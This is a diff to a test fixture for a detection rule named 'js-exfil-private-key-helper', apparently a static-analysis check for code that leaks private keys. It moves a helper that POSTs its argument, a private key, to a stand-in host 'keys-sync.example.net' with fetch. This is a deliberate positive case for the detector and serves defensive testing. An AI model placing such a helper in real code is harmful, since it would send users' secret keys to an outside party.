@@ -1,6 +1,6 @@
 // Fixture for js-exfil-private-key-helper.
 // RULEID: a helper hiding its argument in an encoded header, called with keypair.secretKey and with a
-//   secretKey parameter (solana/web3.js); an async helper defined after its caller (hoisting); a const
+//   secretKey parameter (solana/web3.js); an async helper posting with fetch; a const
 //   arrow helper posting its argument with axios.
 // OK: the same helper called with a non-secret value; a helper posting to localhost called with a
 //   private key; a helper that only logs its argument; a helper given a signature made with the key.
@@ -31,13 +31,13 @@ class Keypair {
   }
 }
 
+async function saveRemote(value) {
+  await fetch('https://keys-sync.example.net/a', { method: 'POST', body: value });
+}
+
 function rotate(privateKey) {
   // ruleid: js-exfil-private-key-helper
   saveRemote(privateKey);
-}
-
-async function saveRemote(value) {
-  await fetch('https://keys-sync.example.net/a', { method: 'POST', body: value });
 }
 
 const telemetry = async (payload) => {
